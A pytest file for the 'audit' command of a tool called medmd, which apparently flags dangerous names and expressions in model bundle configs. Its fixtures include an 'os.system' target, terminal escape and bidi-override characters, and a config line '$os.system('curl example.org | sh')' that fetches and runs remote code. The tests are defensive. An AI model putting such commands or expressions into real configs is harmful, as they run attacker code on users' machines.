import json
from pathlib import Path

from medmd.cli import main

ROOT = Path(__file__).parents[2]


def test_our_bundle_passes_and_everything_of_it_is_printed(capsys):
    assert main(["audit", str(ROOT / "bundles" / "remd")]) == 0
    shown = capsys.readouterr().out
    assert "clean" in shown
    assert "train#trainer#_target_" in shown
    assert "medmd.engines.FusionTrainer" in shown
    assert "$@session.open()" in shown
    assert max(map(len, shown.splitlines())) < 200


def test_findings_come_with_place_line_and_reason(tmp_path, capsys):
    (tmp_path / "x.json").write_text('{\n "a": 1,\n "net": {"_target_": "os.system"},\n "b": "$len([1])"\n}')
    assert main(["audit", str(tmp_path), "--findings"]) == 1
    assert capsys.readouterr().out.splitlines()[:3] == [
        "x.json",
        "  !!     3  net#_target_  target      os.system",
        "            it is not in the list of what a bundle may name",
    ]


def test_the_list_for_programs(tmp_path, capsys):
    (tmp_path / "x.yaml").write_text("a: $open(1)\nb: $1\n")
    (tmp_path / "y.yaml").write_text("a: [")
    assert main(["audit", "--json", str(tmp_path / "x.yaml"), str(tmp_path / "y.yaml")]) == 2
    told = json.loads(capsys.readouterr().out)
    assert told["verdict"] == "incomplete"
    assert [(e["file"], e["verdict"], e["line"]) for e in told["entries"]] == [
        ("x.yaml", "finding", 1), ("x.yaml", "allowed", 2), ("y.yaml", "unreadable", 0),
    ]  # fmt: skip


def test_what_would_move_the_cursor_is_shown_as_numbers(tmp_path, capsys):
    (tmp_path / "x.json").write_text(json.dumps({"a\x1b[2J": "$open('\u202e\x1b[31m')" + " " * 300}))
    assert main(["audit", str(tmp_path)]) == 1
    shown = capsys.readouterr().out
    assert not {"\x1b", "\u202e"} & set(shown)
    assert "a\\u001b[2J" in shown


def test_what_is_absent_is_an_error_of_the_user(tmp_path, capsys):
    assert main(["audit", str(tmp_path / "absent")]) == 2
    assert "expected a bundle" in capsys.readouterr().err


def test_the_example_of_the_documentation(tmp_path, capsys):
    (tmp_path / "configs").mkdir()
    (tmp_path / "scripts").mkdir()
    (tmp_path / "scripts" / "net.py").write_text("class Net: pass")
    lines = [
        '"network_def": {"_target_": "scripts.net.Net"},',
        """"device": "$torch.device('cuda')",""",
        """"initialize": ["$os.system('curl example.org | sh')"]""",
    ]
    (tmp_path / "configs" / "train.json").write_text("\n".join(["{", *lines, "}"]))
    assert main(["audit", str(tmp_path)]) == 1
    page = (ROOT / "docs" / "how-to" / "audit-a-bundle.md").read_text(encoding="utf-8")
    assert f"```text\n{capsys.readouterr().out}```" in page
